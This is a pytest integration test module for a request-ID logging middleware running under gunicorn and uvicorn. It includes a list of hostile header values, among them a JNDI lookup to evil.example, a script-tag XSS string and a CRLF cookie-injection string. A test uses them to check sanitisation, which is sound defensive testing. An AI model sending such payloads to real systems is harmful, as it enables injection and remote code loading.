"""What the middleware promises holds behind real servers: gunicorn with processes and threads, uvicorn."""

from __future__ import annotations

import asyncio
import json
import re
import signal
import socket
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import pytest

SYNC = ("gunicorn", "--workers=1")
THREADED = ("gunicorn", "--workers=2", "--threads=8")
ASGI = ("uvicorn",)


@pytest.fixture(scope="module")
def servers(serve: Callable[..., Any]) -> Iterator[Callable[..., Any]]:
    """Start each kind of server once."""
    started: dict[tuple[str, ...], Any] = {}

    def server_of(*kind: str) -> Any:
        if kind not in started:
            started[kind] = serve(*kind)
        return started[kind]

    yield server_of
    for server in started.values():
        # uvicorn raises the signal again when it has shut down.
        assert server.stop() in (0, -signal.SIGTERM), server.output


@pytest.fixture(params=[SYNC, THREADED, ASGI], ids=["gunicorn sync", "gunicorn gthread", "uvicorn"])
def server(request: pytest.FixtureRequest, servers: Callable[..., Any]) -> Any:
    """Return each kind of server in turn."""
    return servers(*request.param)


client = httpx.Client(timeout=20)


def _get(server: Any, path: str, **options: Any) -> httpx.Response:
    return client.get(server.url + path, **options)


def _request_line(server: Any, response: httpx.Response) -> dict[str, Any]:
    (line,) = server.lines.wait("aura.request", correlation_id=response.headers["X-Request-ID"])
    return line


@pytest.mark.parametrize(
    ("path", "status"),
    [("/plain", 200), ("/async/plain", 200), ("/things/7/", 200), ("/nowhere", 404), ("/gone", 404), ("/boom", 500),
     ("/async/boom", 500), ("/early", 200), ("/middleware-raises", 500), ("/redirect", 302), ("/stream", 200),
     ("/file", 200), ("/file-in-memory", 200), ("/whoami", 200), ("/async/gather", 200), ("/async/nest", 200)],
)  # fmt: skip
def test_every_answer_has_the_id_of_its_one_line(server: Any, path: str, status: int) -> None:
    response = _get(server, path)

    assert response.status_code == status
    line = _request_line(server, response)
    assert (line["status_code"], line["path"], line["client_ip"]) == (status, path, "127.0.0.1")
    assert line["response_bytes"] == len(response.content)
    assert line["security_event"] is False
    assert line.keys() >= {"trace_id", "span_id", "service_name", "memory_percent", "system_load", "memory_delta"}
    # A request to a client comes before all its lines are written.
    (at_the_end,) = server.lines.wait(
        "site.signals", message="request finished signal", correlation_id=line["correlation_id"]
    )
    assert at_the_end["pid"] == line["pid"]
    if status >= 400:
        assert server.lines.wait("django.request", correlation_id=line["correlation_id"])


@pytest.mark.parametrize("path", ["/stream", "/async/stream"])
def test_lines_in_a_streaming_body_have_the_id(server: Any, path: str) -> None:
    # An async body under WSGI is Django's to warn about; it is served all the same.
    response = _get(server, path)

    assert response.content == b"part" * 4
    correlation_id = response.headers["X-Request-ID"]
    assert len(server.lines.wait("site.views", 4, correlation_id=correlation_id, message="streaming part")) == 4
    assert "disconnected" not in _request_line(server, response)


def test_an_error_in_mid_stream_breaks_the_connection_and_is_told(server: Any) -> None:
    path = "/async/stream-raises" if "uvicorn" in str(server.state) else "/stream-raises"
    with pytest.raises(httpx.RemoteProtocolError), client.stream("GET", server.url + path) as response:
        response.read()

    line = _request_line(server, response)
    assert (line["status_code"], line["exception_type"], line["level"]) == (200, "OSError", "ERROR")


def test_a_head_request_has_no_body(server: Any) -> None:
    for path in ("/plain", "/file"):
        response = client.head(server.url + path)

        assert response.content == b""
        assert "response_bytes" not in _request_line(server, response)


def test_a_worker_has_no_id_between_requests(server: Any) -> None:
    paths = ["/plain", "/boom", "/stream", "/nowhere", "/async/gather", "/threads"]
    for path in paths:
        _get(server, path)

    outside = server.lines.wait("site.outside", 2 * len(paths))
    assert {one["correlation_id"] for one in outside} == {None}
    started = server.lines.of("site.signals", message="request started")
    assert {one["correlation_id"] for one in started} == {None}


@pytest.mark.parametrize("kind", [THREADED, ASGI], ids=["gunicorn gthread", "uvicorn"])
def test_pipelined_requests_do_not_inherit_from_each_other(servers: Callable[..., Any], kind: tuple[str, ...]) -> None:
    server = servers(*kind)
    request = b"GET /async/plain HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: %s\r\n%s\r\n"
    with socket.create_connection(("127.0.0.1", server.port), timeout=20) as connection:
        connection.sendall(
            request % (b"pipelined-1", b"")
            + request % (b"pipelined-2", b"")
            + request % (b"pipelined-3", b"Connection: close\r\n")
        )
        answer = b"".join(iter(lambda: connection.recv(65_536), b""))

    assert re.findall(rb"(?i)x-request-id: (\S+)", answer) == [b"pipelined-1", b"pipelined-2", b"pipelined-3"]
    server.lines.wait("aura.request", correlation_id="pipelined-3")
    started = server.lines.of("site.signals", message="request started")
    assert {one["correlation_id"] for one in started} == {None}


def test_two_hundred_requests_at_once_never_mix_their_ids(server: Any) -> None:
    path = "/async/echo" if "uvicorn" in str(server.state) else "/echo"
    ids = [f"at-once-{number}" for number in range(200)]

    answers = (
        asyncio.run(_at_once(server, path, ids)) if "uvicorn" in str(server.state) else _in_threads(server, path, ids)
    )

    assert answers == {one: (one, one, one) for one in ids}
    for one in ids:
        server.lines.wait("aura.request", correlation_id=one)
    echoes = [line for line in server.lines.of("site.views", message="echo") if line["expected"] in answers]
    assert len(echoes) == 600
    assert all(line["correlation_id"] == line["expected"] for line in echoes)
    finished = Counter(line["correlation_id"] for line in server.lines.of("aura.request"))
    assert all(finished[one] == 1 for one in ids)


def _triple(response: httpx.Response) -> tuple[str, str, str]:
    answer = response.json()
    return answer["id"], answer["outgoing"], response.headers["X-Request-ID"]


async def _at_once(server: Any, path: str, ids: list[str]) -> dict[str, tuple[str, str, str]]:
    async with httpx.AsyncClient(base_url=server.url, timeout=20) as client:
        responses = await asyncio.gather(*(client.get(path, headers={"X-Request-ID": one}) for one in ids))
    return {one: _triple(response) for one, response in zip(ids, responses, strict=True)}


def _in_threads(server: Any, path: str, ids: list[str]) -> dict[str, tuple[str, str, str]]:
    with httpx.Client(base_url=server.url, timeout=20) as client, ThreadPoolExecutor(20) as executor:
        responses = list(executor.map(lambda one: client.get(path, headers={"X-Request-ID": one}), ids))
    return {one: _triple(response) for one, response in zip(ids, responses, strict=True)}


def test_the_callers_ids_are_taken_over_and_nested(server: Any) -> None:
    trace_id, span_id = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"

    response = _get(server, "/plain", headers={"traceparent": f"00-{trace_id}-{span_id}-01", "X-Request-ID": "other"})

    assert response.headers["X-Request-ID"] == trace_id
    line = _request_line(server, response)
    assert (line["trace_id"], line["parent_span_id"]) == (trace_id, span_id)


HOSTILE = [
    b"a b", b"x" * 129, b"<script>alert(1)</script>", b"${jndi:ldap://evil.example/a}", b"id\tid", b"\xe2\x80\xae",
    b"%0d%0aSet-Cookie:%20evil=1", b"a;b", b"\"quoted\"",
]  # fmt: skip


def test_hostile_ids_are_replaced_and_appear_nowhere(server: Any) -> None:
    for value in HOSTILE:
        for header in (b"X-Request-ID", b"X-Correlation-ID", b"traceparent"):
            response = _get(server, "/plain", headers=[(header, value)])

            assert re.fullmatch(r"[0-9a-f]{32}", response.headers["X-Request-ID"])
            assert not any(value in text for pair in response.headers.raw for text in pair)
            _request_line(server, response)

    written = (server.state / "app.jsonl").read_bytes()
    assert not [value for value in HOSTILE if json.dumps(value.decode("latin-1")).encode()[1:-1] in written]
    assert b"evil" not in written


def test_forwarded_addresses_of_strangers_are_not_believed(server: Any) -> None:
    response = _get(server, "/plain", headers={"X-Forwarded-For": "6.6.6.6"})

    assert _request_line(server, response)["client_ip"] == "127.0.0.1"


# Clients that leave


def _leave(server: Any, path: str, correlation_id: str, after: bytes | None) -> None:
    """Ask for a path and hang up: at once, or as soon as `after` has been read."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=20) as connection:
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: {correlation_id}\r\n\r\n".encode())
        if after is None:
            server.lines.wait("site.views", correlation_id=correlation_id)
            return
        read = b""
        while after not in read:
            read += connection.recv(65_536)


def test_a_client_that_leaves_in_mid_stream_is_told_and_the_body_is_closed(server: Any) -> None:
    path = "/async/stream-endless" if "uvicorn" in str(server.state) else "/stream-endless"

    _leave(server, path, "left-in-mid-stream", b"xxxx")

    (line,) = server.lines.wait("aura.request", correlation_id="left-in-mid-stream")
    assert (line["status_code"], line["disconnected"]) == (200, True)
    assert line["response_bytes"] > 0
    server.lines.wait("site.views", message="stream given up", correlation_id="left-in-mid-stream")


def test_clients_that_leave_an_async_view_get_499(servers: Callable[..., Any]) -> None:
    server = servers(*ASGI)
    ids = [f"left-{number}" for number in range(20)]

    with ThreadPoolExecutor(20) as executor:
        list(executor.map(lambda one: _leave(server, "/async/slow", one, None), ids))

    for one in ids:
        (line,) = server.lines.wait("aura.request", correlation_id=one)
        assert (line["status_code"], line["disconnected"]) == (499, True)


def test_a_task_that_outlives_its_request_keeps_the_id(servers: Callable[..., Any]) -> None:
    server = servers(*ASGI)

    response = _get(server, "/async/outlive")

    server.lines.wait("site.views", message="late task", correlation_id=response.headers["X-Request-ID"])


def test_no_exception_of_ours_reached_a_server(server: Any) -> None:
    """Last in the module: what the other tests have left on standard error."""
    origins = [
        re.findall(r'File "([^"]+)"', traceback)[-1] for traceback in server.output.split("Traceback (most recent")[1:]
    ]
    assert not [file for file in origins if "aura_logging" in file]
    for complaint in ("Logging error", "never awaited", "different Context", "CancelledError", "never retrieved"):
        assert complaint not in server.output
